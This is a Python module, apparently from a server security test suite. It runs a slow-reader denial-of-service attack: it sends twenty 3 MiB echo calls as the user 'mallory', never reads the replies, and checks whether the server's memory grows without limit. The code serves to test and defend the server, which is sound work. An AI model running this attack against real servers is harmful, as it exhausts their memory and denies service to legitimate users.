"""Breaks: the server's memory, with a client that asks and never reads.

Each reply waits for its reader. In a queue without a limit, that is: all replies wait.
"""

from attacks.finding import Finding
from attacks.target import INITIALIZE, Server, bearer, call, request
from attacks.wire import MIB, connected, grown, memory

AGAINST = "server"
CASE = ""

CALLS = 20
SIZE = 3  # MiB, of each call and of its reply


async def attack(server: Server) -> Finding:
    before = memory(server.pid)
    async with connected(server, receive_buffer=4096) as wire:
        session_id = await wire.open_stream(server.mallory)
        handshake = request(0, "initialize", INITIALIZE)  # its reply is not read, either
        await server.post(session_id, handshake, bearer(server.mallory))
        for number in range(1, CALLS + 1):
            message = call(number, "echo", message="x" * SIZE * MIB)
            answer = await server.post(session_id, message, bearer(server.mallory))
            if answer.status_code != 202:
                break
        else:
            grew = await grown(server.pid, before, CALLS * SIZE * MIB)
            unread = f"{CALLS * SIZE} MiB wait for a client that does not read"
            return Finding(True, f"{unread}: memory +{grew} MiB")
        return Finding(
            False, f"dropped after {number} replies of {SIZE} MiB: {answer.status_code}"
        )
